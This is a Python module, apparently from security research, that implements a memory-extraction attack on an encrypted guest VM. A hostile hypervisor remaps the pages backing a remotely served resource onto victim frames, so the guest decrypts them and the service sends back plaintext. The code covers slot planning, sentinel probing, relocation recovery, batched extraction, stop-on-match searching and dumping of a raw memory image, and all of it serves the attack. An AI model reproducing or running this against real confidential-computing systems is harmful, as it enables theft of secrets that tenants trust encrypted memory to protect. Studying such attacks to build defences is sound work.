"""Memory extraction by remapping resource pages to victim frames.

Once the pages of a remotely fetchable resource are known, the hypervisor
points them at any host frame it wants to read and requests the resource:
the guest decrypts the frame and the service sends the plaintext back.
Slots are checked with sentinel frames before use and periodically during
the run, so relocation of the resource is noticed and the affected frames
are read again.
"""

from __future__ import annotations

import csv
import enum
import math
from collections.abc import Callable, Iterable, Sequence
from dataclasses import dataclass, field
from pathlib import Path

import numpy as np

from .errors import ExtractionImpossible, PlanError, RequestFailed
from .guest import GuestVm
from .identify import IdentificationState, LiveSource, identify

DEFAULT_RECHECK_EVERY = 64


# -- planning ------------------------------------------------------------------


@dataclass
class ExtractionPlan:
    """The ``r`` slots plus the ranking they were taken from."""

    slots: list[int]
    r: int
    candidate_cursor: int
    ranking: list[int]
    resource_size: int
    page_size: int

    @property
    def full_pages(self) -> int:
        return self.resource_size // self.page_size

    def next_candidate(self) -> int:
        if self.candidate_cursor >= len(self.ranking):
            raise PlanError("candidate ranking exhausted; identification must be repeated")
        gpa = self.ranking[self.candidate_cursor]
        self.candidate_cursor += 1
        return gpa


def plan(ranking, S_r: int, S_p: int) -> ExtractionPlan:
    """Take the first ``r = ceil(S_r / S_p)`` ranked pages as slots.

    ``ranking`` holds gpas or ranked entries with a ``gpa`` attribute,
    most likely first.  Resources smaller than one page are rejected since
    they cannot carry a whole frame.
    """
    if S_p <= 0 or S_r <= 0:
        raise ValueError("sizes must be positive")
    if S_r < S_p:
        raise PlanError(f"resource of {S_r} bytes does not cover a full {S_p}-byte page")
    gpas = [int(getattr(e, "gpa", e)) for e in ranking
            if getattr(e, "probability", 1) != 0]
    r = math.ceil(S_r / S_p)
    if len(gpas) < r:
        raise PlanError(f"need {r} candidates, ranking has {len(gpas)}; "
                        "identification must be repeated")
    return ExtractionPlan(gpas[:r], r, r, gpas, S_r, S_p)


# -- probing -------------------------------------------------------------------


class Verdict(enum.Enum):
    BELONGS = "belongs-to-resource"
    NOT_RESOURCE = "not-resource"


@dataclass(frozen=True)
class ProbeResult:
    verdict: Verdict
    page_index: int | None
    requests: int


def _sentinels(vm: GuestVm) -> list[tuple[int, bytes]]:
    """Spare host frames filled with two distinct known patterns."""
    out = []
    rng = np.random.default_rng([0x5E47, vm.page_size])
    for frame in vm.host_spare_frames[:2]:
        data = rng.bytes(vm.page_size)
        if vm.memory.read(frame) != data:
            vm.table.host_write(frame, data)
        out.append((frame, data))
    return out


def _chunk_index(body: bytes, pattern: bytes, page_size: int) -> int | None:
    n = math.ceil(len(body) / page_size)
    for k in range(n):
        chunk = body[k * page_size:(k + 1) * page_size]
        if chunk == pattern[:len(chunk)]:
            return k
    return None


def _fetch(vm: GuestVm, service: str, target: str, noise: bool):
    try:
        body, summary = vm.request(service, target, noise=noise, watch=target)
    except RequestFailed as exc:
        vm.table.restore_mappings()
        raise ExtractionImpossible(str(exc)) from exc
    return body, summary


def probe_slot(vm: GuestVm, slot: int, service: str, target: str,
               noise: bool = True) -> ProbeResult:
    """Does ``slot`` back a page of the target resource, and which one?

    The slot is pointed at two sentinel frames in turn; it belongs to the
    resource only if both sentinels come back at the same page offset.
    The slot mapping is restored afterwards.
    """
    table = vm.table
    original = table.snapshot(slot)
    index = None
    requests = 0
    try:
        for frame, pattern in _sentinels(vm):
            table.remap(slot, frame)
            requests += 1
            try:
                body, _ = _fetch(vm, service, target, noise)
            except ExtractionImpossible as exc:
                exc.requests = requests
                raise
            k = _chunk_index(body, pattern, vm.page_size)
            if k is None or (index is not None and k != index):
                return ProbeResult(Verdict.NOT_RESOURCE, None, requests)
            index = k
    finally:
        table.remap(slot, original)
    return ProbeResult(Verdict.BELONGS, index, requests)


# -- report --------------------------------------------------------------------


class FrameState(enum.Enum):
    PENDING = "pending"
    EXTRACTED = "extracted"
    UNREADABLE = "unreadable"


@dataclass
class FrameStatus:
    state: FrameState = FrameState.PENDING
    confirmed: bool = False
    request: int | None = None
    slot: int | None = None


@dataclass
class ExtractionReport:
    frames: list[int]
    page_size: int
    image: dict[int, bytes] = field(default_factory=dict)
    status: dict[int, FrameStatus] = field(default_factory=dict)
    request_breakdown: dict[str, int] = field(
        default_factory=lambda: {"baseline": 0, "probe": 0, "batch": 0, "recheck": 0,
                                 "identify": 0})
    r: int = 0
    misidentified_slots: int = 0
    reidentifications: int = 0
    aborted_batches: int = 0
    wrong_other: int = 0
    outcome: str = "complete"
    found_frame: int | None = None

    @property
    def requests_issued(self) -> int:
        return sum(self.request_breakdown.values())

    @property
    def extracted(self) -> int:
        return sum(s.state is FrameState.EXTRACTED for s in self.status.values())

    @property
    def coverage(self) -> float:
        return self.extracted / len(self.frames) if self.frames else 0.0

    @property
    def impossible(self) -> bool:
        return self.outcome == "extraction-impossible"

    def summary(self) -> dict:
        return {
            "outcome": self.outcome,
            "frames": len(self.frames),
            "extracted": self.extracted,
            "coverage": self.coverage,
            "r": self.r,
            "requests_issued": self.requests_issued,
            **{f"requests_{k}": v for k, v in self.request_breakdown.items()},
            "misidentified_slots": self.misidentified_slots,
            "reidentifications": self.reidentifications,
            "aborted_batches": self.aborted_batches,
            "wrong_other": self.wrong_other,
        }


def write_image(report: ExtractionReport, path, n_frames: int | None = None) -> None:
    """Raw image: frames in ascending order, zero pages where nothing was read."""
    n = n_frames if n_frames is not None else (max(report.frames) + 1 if report.frames else 0)
    zero = bytes(report.page_size)
    with open(path, "wb") as fh:
        for f in range(n):
            fh.write(report.image.get(f, zero))


def write_frame_csv(report: ExtractionReport, path) -> None:
    with open(path, "w", newline="") as fh:
        w = csv.writer(fh, lineterminator="\n")
        w.writerow(["frame", "state", "confirmed", "request", "slot"])
        for f in sorted(report.status):
            s = report.status[f]
            w.writerow([f, s.state.value, int(s.confirmed),
                        "" if s.request is None else s.request,
                        "" if s.slot is None else s.slot])


def write_summary_csv(report: ExtractionReport, path) -> None:
    row = report.summary()
    with open(path, "w", newline="") as fh:
        w = csv.writer(fh, lineterminator="\n")
        w.writerow(list(row))
        w.writerow([f"{v:.6f}" if isinstance(v, float) else v for v in row.values()])


# -- extraction ------------------------------------------------------------------

Reidentifier = Callable[[], tuple[list[int], int]]


def live_reidentifier(vm: GuestVm, service: str, target: str, other: str,
                      max_iterations: int = 100, patience: int = 5,
                      top_k: int = 1) -> Reidentifier:
    """Repeat identification on the running guest; returns (ranking, requests)."""

    def run():
        res = identify(LiveSource(vm, service), target, other, max_iterations,
                       patience=patience, top_k=top_k, stop_when_converged=True)
        return [e.gpa for e in res.state.ranking()], 2 * len(res.records)

    return run


def ranking_from_state(state: IdentificationState) -> list[int]:
    return [e.gpa for e in state.ranking()]


class _Relocated(Exception):
    pass


class Extractor:
    """One extraction session against a running guest.

    ``probe=False`` trusts the plan as given (slot ``k`` backs page ``k``)
    and skips the baseline fetch; ``recheck_every=0`` turns periodic checks
    off.
    """

    def __init__(self, vm: GuestVm, service: str, target: str, *, noise: bool = True,
                 probe: bool = True, recheck_every: int = DEFAULT_RECHECK_EVERY,
                 reidentify: Reidentifier | None = None, max_reidentifications: int = 3,
                 max_probe_failures: int = 16):
        self.vm = vm
        self.service = service
        self.target = target
        self.noise = noise
        self.probe = probe
        self.recheck_every = recheck_every
        self.reidentify = reidentify
        self.max_reidentifications = max_reidentifications
        self.max_probe_failures = max_probe_failures
        self.original: bytes | None = None
        self.report: ExtractionReport | None = None

    # requests -----------------------------------------------------------------

    def _request(self, kind: str) -> bytes:
        self.report.request_breakdown[kind] += 1
        body, summary = _fetch(self.vm, self.service, self.target, self.noise)
        self.report.wrong_other += summary.wrong_other
        return body

    def _probe(self, slot: int) -> ProbeResult:
        try:
            res = probe_slot(self.vm, slot, self.service, self.target, self.noise)
        except ExtractionImpossible as exc:
            self.report.request_breakdown["probe"] += exc.requests
            raise
        self.report.request_breakdown["probe"] += res.requests
        return res

    # slots --------------------------------------------------------------------

    def _validate(self, p: ExtractionPlan) -> dict[int, int]:
        """Map full-page index -> slot, replacing rejected slots from the ranking."""
        if not self.probe:
            return {k: s for k, s in enumerate(p.slots[:p.full_pages])}
        by_index: dict[int, int] = {}
        failures = 0
        queue = list(p.slots)
        while queue:
            slot = queue.pop(0)
            res = self._probe(slot)
            if res.verdict is Verdict.BELONGS and res.page_index not in by_index:
                by_index[res.page_index] = slot
                continue
            self.report.misidentified_slots += 1
            failures += 1
            if failures > self.max_probe_failures:
                raise PlanError("too many rejected slots; identification must be repeated")
            p.slots.remove(slot)
            new = p.next_candidate()
            p.slots.append(new)
            queue.append(new)
        full = {k: s for k, s in by_index.items() if k < p.full_pages}
        if not full:
            raise PlanError("no slot carries a full page of the resource")
        return full

    def _check(self, slots: dict[int, int]) -> bool:
        """Untampered fetch, then a sentinel probe of every slot."""
        self.vm.table.restore_mappings()
        body = self._request("recheck")
        if self.original is not None and body != self.original:
            return False
        frame, pattern = _sentinels(self.vm)[0]
        for k, slot in slots.items():
            self.vm.table.remap(slot, frame)
            body = self._request("recheck")
            self.vm.table.remap(slot, self.vm.table.snapshot(slot))
            if _chunk_index(body, pattern, self.vm.page_size) != k:
                return False
        return True

    def _replan(self, p: ExtractionPlan) -> ExtractionPlan:
        while True:
            if self.reidentify is None or \
                    self.report.reidentifications >= self.max_reidentifications:
                raise _Relocated()
            self.report.reidentifications += 1
            ranking, cost = self.reidentify()
            self.report.request_breakdown["identify"] += cost
            if self.probe:
                self.original = self._request("baseline")
            try:
                return plan(ranking, p.resource_size, p.page_size)
            except PlanError:
                continue

    def _ready(self, p: ExtractionPlan) -> tuple[ExtractionPlan, dict[int, int]]:
        """Validated slots, repeating identification while the ranking lets us down."""
        while True:
            try:
                return p, self._validate(p)
            except PlanError:
                p = self._replan(p)

    # main loop ----------------------------------------------------------------

    def run(self, p: ExtractionPlan, frames: Iterable[int] | None = None,
            stop: Callable[[bytes], bool] | None = None) -> ExtractionReport:
        vm, table = self.vm, self.vm.table
        frames = list(vm.guest_frames if frames is None else frames)
        rep = self.report = ExtractionReport(frames, vm.page_size, r=p.r)
        for f in frames:
            rep.status[f] = FrameStatus()
        if not frames:
            return rep
        try:
            if self.probe:
                self.original = self._request("baseline")
                if len(self.original) != p.resource_size:
                    raise PlanError(f"resource is {len(self.original)} bytes, "
                                    f"plan assumed {p.resource_size}")
            p, slots = self._ready(p)
            # frames backing the slots are read last; reading them is harmless
            backing = {table.snapshot(s) for s in slots.values()}
            todo = [f for f in frames if f not in backing] + [f for f in frames if f in backing]
            self._loop(p, slots, todo, stop)
        except ExtractionImpossible:
            rep.outcome = "extraction-impossible"
            for s in rep.status.values():
                s.state = FrameState.PENDING
            rep.image.clear()
        except (_Relocated, PlanError):
            rep.outcome = "aborted"
        finally:
            table.restore_mappings()
        return rep

    def _loop(self, p: ExtractionPlan, slots: dict[int, int], todo: list[int],
              stop: Callable[[bytes], bool] | None) -> None:
        rep, table, ps = self.report, self.vm.table, self.vm.page_size
        unconfirmed: list[int] = []
        pos = 0
        batches = 0
        while pos < len(todo):
            order = sorted(slots.items())
            batch = todo[pos:pos + len(order)]
            for (k, slot), frame in zip(order, batch):
                table.remap(slot, frame)
            body = self._request("batch")
            for (k, slot), _ in zip(order, batch):
                table.remap(slot, table.snapshot(slot))
            suspicious = len(body) != p.resource_size
            if not suspicious and self.original is not None:
                # a chunk equal to the resource itself may mean the slot no longer backs it
                suspicious = any(body[k * ps:(k + 1) * ps] == self.original[k * ps:(k + 1) * ps]
                                 for (k, _), _ in zip(order, batch))
            if len(body) != p.resource_size:
                rep.aborted_batches += 1
                if rep.aborted_batches > self.max_probe_failures:
                    raise _Relocated()
            else:
                for (k, slot), frame in zip(order, batch):
                    st = rep.status[frame]
                    rep.image[frame] = body[k * ps:(k + 1) * ps]
                    st.state, st.confirmed = FrameState.EXTRACTED, False
                    st.request, st.slot = rep.requests_issued, slot
                    unconfirmed.append(frame)
                pos += len(batch)
            batches += 1
            hit = None
            if stop is not None and len(body) == p.resource_size:
                hit = next((f for f in batch if stop(rep.image[f])), None)
            due = self.recheck_every and batches % self.recheck_every == 0
            last = pos >= len(todo) or hit is not None
            if suspicious or due or last or not self.probe:
                if not self.probe or self._check(slots):
                    for f in unconfirmed:
                        rep.status[f].confirmed = self.probe
                    unconfirmed.clear()
                    if hit is not None:
                        rep.found_frame = hit
                        rep.outcome = "stopped"
                        return
                    continue
                # the resource moved: everything since the last good check is suspect
                for f in unconfirmed:
                    rep.status[f] = FrameStatus()
                    rep.image.pop(f, None)
                redo = set(unconfirmed)
                unconfirmed.clear()
                done = [f for f in todo[:pos] if f not in redo]
                todo = done + [f for f in todo[:pos] if f in redo] + todo[pos:]
                pos = len(done)
                p, slots = self._ready(self._replan(p))
        for f in unconfirmed:
            rep.status[f].confirmed = self.probe


def extract_all(plan: ExtractionPlan, vm: GuestVm, service: str, target: str,
                frames: Iterable[int] | None = None, **options) -> ExtractionReport:
    """Read every frame in ``frames`` (default: all guest frames) through the slots."""
    return Extractor(vm, service, target, **options).run(plan, frames)


def partial_extract(plan: ExtractionPlan, vm: GuestVm, service: str, target: str,
                    frames: Sequence[int], stop: Callable[[bytes], bool],
                    **options) -> ExtractionReport:
    """Like :func:`extract_all` over ``frames``, halting once ``stop`` matches a frame."""
    return Extractor(vm, service, target, **options).run(plan, frames, stop)
